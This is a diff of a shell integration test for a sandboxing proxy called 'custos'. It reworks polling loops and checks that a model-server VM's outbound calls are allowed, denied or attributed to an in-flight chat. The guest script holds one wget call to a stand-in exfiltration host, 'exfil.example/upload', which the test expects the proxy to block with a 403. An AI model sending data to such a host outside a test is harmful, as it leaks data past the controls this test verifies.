@@ -98,12 +98,14 @@ cleanup() {
 }
 trap cleanup EXIT
 
-wait_for() { # wait_for SECONDS CMD...: polls CMD every 0.2 s
-	local n=$(($1 * 5))
+# wait_for SECONDS CMD...: polls CMD every 0.2 s until it succeeds (0) or SECONDS have passed (1),
+# the time CMD itself takes included. A condition that changes over time is a function (an
+# argument "$(...)" would be expanded once, before the first try).
+wait_for() {
+	local end=$((SECONDS + $1))
 	shift
-	while ! "$@" 2>/dev/null; do
-		n=$((n - 1))
-		[ "$n" -gt 0 ] || return 1
+	until "$@" 2>/dev/null; do
+		[ "$SECONDS" -lt "$end" ] || return 1
 		sleep 0.2
 	done
 }
@@ -175,13 +177,12 @@ else
 	echo "VSOCK-MUX-FAIL no vsock_loopback module"
 fi
 export http_proxy=http://127.0.0.1:3128
-for i in \$(seq 90); do
-	if wget -q -O /tmp/eg http://127.0.0.1:$DPORT/v1/models 2>/dev/null; then
-		echo "EGRESS-OK \$(cat /tmp/eg)"
-		break
-	fi
-	sleep 1
+# The allowed call is tried until it goes through (the path to custos' egress listener may not
+# be up yet when this runs at boot): the host side bounds the wait and reports.
+until wget -q -O /tmp/eg http://127.0.0.1:$DPORT/v1/models 2>/dev/null; do
+	sleep 0.2
 done
+echo "EGRESS-OK \$(cat /tmp/eg)"
 if wget -q -O /tmp/eg2 http://exfil.example/upload 2>/tmp/eg2.err; then
 	echo "EGRESS-UNEXPECTED \$(cat /tmp/eg2)"
 else
@@ -189,7 +190,10 @@ else
 fi
 # What a model server does while it answers: calls out during a chat completion. These are
 # attributed to the ingress request in flight (principal and request id in the egress event).
-( for i in \$(seq 400); do
+# Paced, with no end: they go on until the VM stops, so the host's chats below find them
+# however long the steps before took ("EGRESS-CALLS" says they have begun).
+echo "EGRESS-CALLS"
+( while :; do
 	wget -q -O /dev/null http://127.0.0.1:$DPORT/during-chat 2>/dev/null
 	sleep 0.25
 done ) &
@@ -288,11 +292,8 @@ NAME=custos-vm-model
 CUSTOS_PID=$!
 # The first start on a fresh machine includes libvirt probing QEMU's capabilities (~1 min).
 up_ready() { grep -q "up: listener 1 on port $P_IN" "$WORK/custos.log"; }
-for _ in $(seq 900); do
-	up_ready && break
-	kill -0 "$CUSTOS_PID" 2>/dev/null || break
-	sleep 0.2
-done
+up_ready_or_exited() { up_ready || ! kill -0 "$CUSTOS_PID" 2>/dev/null; }
+wait_for 180 up_ready_or_exited || true
 if ! up_ready; then
 	fail "custos up did not become ready"
 	exit 1
@@ -365,13 +366,26 @@ done
 echo "ok - 16 concurrent completions through custos over one channel"
 
 # ---- egress: from the VM, through custos' egress proxy ---------------------------------------
-wait_for 90 grep -q "EGRESS-DENIED\|EGRESS-UNEXPECTED" "$WORK/console.log" ||
+wait_for 120 grep -q "EGRESS-OK" "$WORK/console.log" ||
+	fail "the guest's allowed egress call did not go through in 120 s"
+wait_for 60 grep -q "EGRESS-DENIED\|EGRESS-UNEXPECTED" "$WORK/console.log" ||
 	fail "the guest's egress calls did not finish"
 grep -q 'EGRESS-OK .*fixture-model' "$WORK/console.log" ||
 	fail "allowed egress call from the VM did not get the data source's answer"
 grep -q 'EGRESS-DENIED.*403' "$WORK/console.log" ||
 	fail "denied egress call did not get 403: $(grep EGRESS- "$WORK/console.log")"
 echo "ok - egress from the VM through custos' egress proxy: allowed call answered, other denied (403)"
+# An egress call made while one chat completion is in flight is attributed to it: one chat at a
+# time (each lasts 8 tokens of 250 ms) while the guest calls out every 0.25 s, until the trail
+# has such an event (checked in full with the rest of the trail below).
+wait_for 60 grep -q "EGRESS-CALLS" "$WORK/console.log" || fail "the guest's calls during chats did not begin"
+attributed() {
+	chat >/dev/null
+	# (grep -c, not -q, at the end of the pipe: under pipefail -q's early exit can SIGPIPE the writer)
+	[ "$(cat "$WORK"/audit/*.jsonl 2>/dev/null | grep '"path":"/during-chat"' |
+		grep -c '"attribution":"sole-in-flight","ingress_request_id":"[^"]*","principal":"alice"')" -gt 0 ]
+}
+wait_for 120 attributed || fail "no egress call from the VM attributed to an in-flight chat after 120 s of chats"
 
 # ---- admin API: the VM in GET /v1/sandboxes -----------------------------------------------------
 sandboxes() { curl --silent --show-error --max-time 10 --unix-socket "$WORK/admin.sock" http://admin/v1/sandboxes; }
@@ -412,15 +426,8 @@ wait_for 120 grep -q "vm $NAME: channel up again, seccomp checked" "$WORK/custos
 grep -q "vm $NAME (model vm-model): crashed" "$WORK/custos.log" || fail "crash not reported"
 NEWPID=$(cat /run/libvirt/qemu/"$NAME".pid 2>/dev/null || echo none)
 [ "$NEWPID" != "$QPID" ] || fail "QEMU pid did not change"
-ok=0
-for _ in $(seq 30); do
-	if chat 2>/dev/null | grep -q 'Hello from inside the VM.'; then
-		ok=1
-		break
-	fi
-	sleep 1
-done
-[ "$ok" -eq 1 ] || fail "no completion after the restart"
+answered() { chat 2>/dev/null | grep -q 'Hello from inside the VM.'; }
+wait_for 120 answered || fail "no completion after the restart (120 s)"
 # The new QEMU started a new console log: the rebooted guest's hook ran again, through the
 # new channel's egress listener (its allowed call is counted in the audit trail below).
 wait_for 120 grep -q "EGRESS-DENIED" "$WORK/console.log" ||
